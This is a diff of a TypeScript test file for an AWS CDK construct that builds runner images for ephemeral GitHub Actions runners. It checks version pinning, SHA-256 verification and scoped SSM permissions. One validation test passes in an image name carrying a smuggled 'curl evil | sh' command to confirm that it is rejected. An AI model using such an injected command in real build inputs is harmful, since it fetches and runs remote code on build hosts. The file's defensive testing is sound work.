@@ -4,12 +4,19 @@ import { Match, Template } from 'aws-cdk-lib/assertions';
 import * as ec2 from 'aws-cdk-lib/aws-ec2';
 import * as yaml from 'js-yaml';
 import { validateTemplate } from '../../sandbox/aws/cloudformation-schema';
-import { EndpointAccess, EphemeralRunnersProps, RunnerArchitecture, RunnerImagePipeline, RunnerMachineImage, UbuntuRelease } from '../../src';
+import { EndpointAccess, EphemeralRunnersProps, RunnerArchitecture, RunnerImagePipeline, RunnerMachineImage, RunnerVersion, UbuntuRelease } from '../../src';
 import { synthRunners } from './support/synth';
 import { TEST_CA_BUNDLE, TEST_CA_FIRST_LINE } from './support/test-ca';
 
 function synth(props: Partial<EphemeralRunnersProps> = {}): Template {
   return synthRunners([{ name: 'linux-x64', labels: ['linux', 'x64'] }], props);
+}
+
+/** The install-runner component's parameters in the (first) recipe, by name. */
+function recipeRunnerParameters(template: Template): Record<string, string> {
+  const [recipe] = Object.values(template.findResources('AWS::ImageBuilder::ImageRecipe'));
+  const runner = (recipe.Properties.Components as Array<{ Parameters?: Array<{ Name: string; Value: string[] }> }>).find((c) => c.Parameters);
+  return Object.fromEntries(runner!.Parameters!.map((p) => [p.Name, p.Value[0]]));
 }
 
 function components(template: Template): Record<string, string> {
@@ -34,20 +41,77 @@ describe('the runner image pipeline', () => {
     expect(document.image).toEqual({ parameterName: '/ephemeral-runners/Test/Runners/image/x64' });
   });
 
-  test('the runner is pinned and verified by its SHA-256 before it is unpacked', () => {
-    const release = RunnerImagePipeline.DEFAULT_RUNNER_RELEASE;
-    template.hasResourceProperties('AWS::ImageBuilder::ImageRecipe', {
-      Components: Match.arrayWith([Match.objectLike({
-        Parameters: [
-          { Name: 'Version', Value: [release.version] },
-          { Name: 'Sha256X64', Value: [release.sha256X64] },
-          { Name: 'Sha256Arm64', Value: [release.sha256Arm64] },
-        ],
-      })]),
+  test('by default every build installs the newest runner release, checked against the server\'s version kept in SSM', () => {
+    const parameters = recipeRunnerParameters(template);
+
+    expect(parameters).toEqual({
+      Version: 'latest',
+      Sha256X64: 'none',
+      Sha256Arm64: 'none',
+      MinimumVersion: RunnerImagePipeline.DEFAULT_RUNNER_RELEASE.version,
+      FloorParameter: '/ephemeral-runners/Test/Runners/image/runner-version/github-server',
+      VersionParameter: '/ephemeral-runners/Test/Runners/image/runner-version/x64',
     });
+    for (const name of [parameters.FloorParameter, parameters.VersionParameter]) {
+      template.hasResourceProperties('AWS::SSM::Parameter', { Name: name, Type: 'String', Value: '0.0.0' });
+    }
     const runner = components(template)['install-runner'];
-    expect(runner.indexOf('sha256sum --check')).toBeGreaterThan(0);
-    expect(runner.indexOf('sha256sum --check')).toBeLessThan(runner.indexOf('tar -xzf'));
+    expect(runner).toContain("RUNNER_VERSION='{{ Version }}'");
+    expect(runner).toContain("VERSION_PARAMETER='{{ VersionParameter }}' /opt/ephemeral-runners/install-runner.sh report");
+  });
+
+  test('the install script arrives in the image byte for byte, and checks the SHA-256 before it unpacks', () => {
+    const doc = yaml.load(components(template)['install-runner']) as { phases: Array<{ name: string; steps: Array<{ inputs: Array<{ content?: string }> }> }> };
+    const script = fs.readFileSync(path.join(__dirname, '..', '..', 'image-builder', 'install-runner.sh'), 'utf8');
+
+    expect(doc.phases.map((p) => p.name)).toEqual(['build', 'validate', 'test']);
+    expect(doc.phases[0].steps[0].inputs[0].content).toBe(`${script.trimEnd()}\n`);
+    expect(script.indexOf('sha256sum --check')).toBeGreaterThan(0);
+    expect(script.indexOf('sha256sum --check')).toBeLessThan(script.indexOf('tar -xzf'));
+  });
+
+  test('a pinned release is installed with its sums, by runnerVersion or the deprecated runnerRelease; both at once are refused', () => {
+    const release = { version: '2.330.0', sha256X64: 'a'.repeat(64), sha256Arm64: 'b'.repeat(64) };
+    const expected = { Version: '2.330.0', Sha256X64: 'a'.repeat(64), Sha256Arm64: 'b'.repeat(64), MinimumVersion: '2.330.0' };
+
+    expect(recipeRunnerParameters(synth({ runnerImage: { runnerVersion: RunnerVersion.pinned(release) } }))).toMatchObject(expected);
+    expect(recipeRunnerParameters(synth({ runnerImage: { runnerRelease: release } }))).toMatchObject(expected);
+    expect(() => synth({ runnerImage: { runnerRelease: release, runnerVersion: RunnerVersion.latest() } }))
+      .toThrow(/sets both runnerRelease and runnerVersion: keep runnerVersion/);
+  });
+
+  test('the build role may write the runner-version parameters of its images and read the server\'s, nothing more of SSM beyond Image Builder\'s policies', () => {
+    const statements = Object.values(template.findResources('AWS::IAM::Policy'))
+      .filter((p) => JSON.stringify(p.Properties.Roles).includes('BuildRole'))
+      .flatMap((p) => p.Properties.PolicyDocument.Statement as Array<{ Action: string | string[]; Resource: unknown }>);
+
+    expect(statements.map((s) => s.Action)).toEqual(['ssm:PutParameter', ['ssm:DescribeParameters', 'ssm:GetParameters', 'ssm:GetParameter', 'ssm:GetParameterHistory']]);
+    expect(JSON.stringify(statements[0].Resource)).toMatch(/RunnerVersionx64/);
+    expect(JSON.stringify(statements[0].Resource)).not.toMatch(/ServerRunnerVersion/);
+    expect(JSON.stringify(statements[1].Resource)).toMatch(/ServerRunnerVersion/);
+  });
+
+  test('the reconciler is told where the runner versions are; it may read them and write only the server\'s', () => {
+    const [reconciler] = Object.values(template.findResources('AWS::Lambda::Function'))
+      .filter((f) => String(f.Properties.Description).startsWith('Sweeps pools'));
+    // A Fn::Join over the parameters' Refs: resolved here to their names.
+    const ssmParameters = template.findResources('AWS::SSM::Parameter');
+    const [, parts] = reconciler.Properties.Environment.Variables.RUNNER_VERSION_PARAMETERS['Fn::Join'] as [string, Array<string | { Ref: string }>];
+    const parameters = JSON.parse(parts.map((part) => (typeof part === 'string' ? part : ssmParameters[part.Ref].Properties.Name)).join(''));
+    const statements = Object.values(template.findResources('AWS::IAM::Policy'))
+      .filter((p) => JSON.stringify(p.Properties.Roles).includes('Reconciler'))
+      .flatMap((p) => p.Properties.PolicyDocument.Statement as Array<{ Action: string | string[]; Resource: unknown }>)
+      .filter((s) => [s.Action].flat().some((a) => a.startsWith('ssm:')) && /RunnerVersion/.test(JSON.stringify(s.Resource)));
+    const writes = statements.filter((s) => [s.Action].flat().includes('ssm:PutParameter'));
+
+    expect(parameters).toEqual({
+      server: '/ephemeral-runners/Test/Runners/image/runner-version/github-server',
+      x64: '/ephemeral-runners/Test/Runners/image/runner-version/x64',
+    });
+    expect(statements.length).toBeGreaterThanOrEqual(2);
+    expect(writes).toHaveLength(1);
+    expect(JSON.stringify(writes[0].Resource)).toMatch(/ServerRunnerVersion/);
+    expect(JSON.stringify(writes[0].Resource)).not.toMatch(/RunnerVersionx64/);
   });
 
   test('the image holds the bootstrap, Docker and build tools; the bootstrap itself installs nothing', () => {
@@ -176,7 +240,7 @@ describe('the runner image pipeline', () => {
   });
 
   test('a malformed runner checksum or image reference is refused with what to fix', () => {
-    expect(() => synth({ runnerImage: { runnerRelease: { version: '2.329', sha256X64: 'abc', sha256Arm64: 'f'.repeat(64) } } }))
+    expect(() => synth({ runnerImage: { runnerVersion: RunnerVersion.pinned({ version: '2.329', sha256X64: 'abc', sha256Arm64: 'f'.repeat(64) }) } }))
       .toThrow(/runnerRelease.version "2.329" is not a version like 2.329.0; runnerRelease.sha256X64 is not a SHA-256/);
     expect(() => synth({ runnerImage: { prePulledImages: ["node:22'; curl evil | sh; '"] } })).toThrow(/prePulledImages holds entries that are not image references/);
   });
